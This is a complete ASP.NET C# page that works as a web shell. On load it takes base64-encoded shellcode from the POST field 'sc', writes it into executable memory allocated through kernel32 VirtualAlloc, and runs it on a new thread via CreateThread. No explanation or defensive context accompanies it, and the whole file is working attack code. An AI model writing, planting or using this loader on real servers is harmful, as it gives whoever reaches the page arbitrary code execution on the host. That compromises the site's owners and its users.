<%@ Page Language="C#" %>
<%@ Import Namespace="System.Runtime.InteropServices" %>
<script runat="server">
    [DllImport("kernel32")] static extern IntPtr VirtualAlloc(IntPtr a, uint size, uint type, uint prot);
    [DllImport("kernel32")] static extern IntPtr CreateThread(IntPtr a, uint s, IntPtr start, IntPtr p, uint f, IntPtr id);
    [DllImport("kernel32")] static extern uint WaitForSingleObject(IntPtr h, uint ms);
    protected void Page_Load(object sender, EventArgs e)
    {
        string d = Request.Form["sc"];
        if (String.IsNullOrEmpty(d)) return;
        byte[] buf = Convert.FromBase64String(d);
        IntPtr mem = VirtualAlloc(IntPtr.Zero, (uint)buf.Length, 0x3000, 0x40);
        Marshal.Copy(buf, 0, mem, buf.Length);
        IntPtr th = CreateThread(IntPtr.Zero, 0, mem, IntPtr.Zero, 0, IntPtr.Zero);
        WaitForSingleObject(th, 0);
        Response.Write("ok");
    }
</script>
